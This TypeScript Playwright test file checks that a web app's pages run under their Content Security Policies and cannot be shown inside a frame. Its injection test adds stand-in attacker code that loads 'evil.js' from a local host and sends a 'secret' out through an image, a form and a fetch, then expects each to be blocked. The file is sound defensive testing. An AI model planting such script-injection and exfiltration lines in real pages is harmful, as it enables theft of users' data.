/** The pages work under their content security policies, and injected code does not run. */

import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { startServer, type TestServer } from "../support/server/server.ts";
import { type SharedBrowser, sharedBrowser } from "../support/web/browser.ts";

let dataDir: string;
let server: TestServer;
let browser: SharedBrowser;
beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), "countersign-policies-"));
  [server, browser] = await Promise.all([startServer({ AUTH_JWT_SECRET: "", DATA_DIR: dataDir }), sharedBrowser()]);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
  await rm(dataDir, { recursive: true });
});

const executeButton = (page: Page) => page.getByRole("button", { name: /^Execute query/ });

/** Each page, and a check that it works. */
const pages: [string, string, (page: Page) => Promise<unknown>][] = [
  ["the first page", "/", (page) => page.getByText("No pending requests").waitFor()],
  ["the sign-in page", "/sign-in", (page) => page.getByText("There is no token in this address.").waitFor()],
  ["the documentation of REST", "/api/docs", (page) => page.getByRole("heading", { name: "Errors" }).waitFor()],
  [
    "GraphiQL",
    "/graphql",
    async (page) => {
      await executeButton(page).click();
      await page.locator(".graphiql-response .view-lines", { hasText: "alice@company.com" }).waitFor();
    },
  ],
];

test.each(pages)(
  "%s works without a violation of its policy, and runs no script from elsewhere",
  async (_name, path, works) => {
    const context = await browser.newContext();
    const violations: string[] = [];
    await context.exposeFunction("violated", (directive: string) => violations.push(directive));
    await context.addInitScript(() => {
      addEventListener("securitypolicyviolation", (event) => {
        // biome-ignore lint/suspicious/noExplicitAny: a function that the test puts there
        (globalThis as any).violated(event.effectiveDirective);
      });
    });
    const page = await context.newPage();
    const link = server.development?.signIns.find(({ userId }) => userId === "alice@company.com")?.url as string;
    await page.goto(link);
    await page.getByRole("button", { name: "Signed in as" }).waitFor();

    await page.goto(server.url + path);
    await works(page);
    expect(violations).toEqual([]);

    // Code that an attacker would inject into the page.
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "http://127.0.0.1:9/evil.js";
      document.body.append(script);
      const image = document.createElement("img");
      image.src = "http://127.0.0.1:9/told?secret";
      document.body.append(image);
      const form = document.createElement("form");
      form.action = "http://127.0.0.1:9/";
      document.body.append(form);
      form.submit();
      fetch("http://127.0.0.1:9/").catch(() => {});
    });
    await expect
      .poll(() => violations.toSorted())
      .toEqual(["connect-src", "form-action", "img-src", "script-src-elem"]);
    await context.close();
  },
);

test("no page can be shown within another page", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  for (const path of ["/", "/requests/0190", "/sign-in", "/graphql", "/api/docs"]) {
    await page.goto("about:blank");
    await page.setContent(`<iframe src="${server.url}${path}"></iframe>`);
    await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
  }
  await context.close();
});
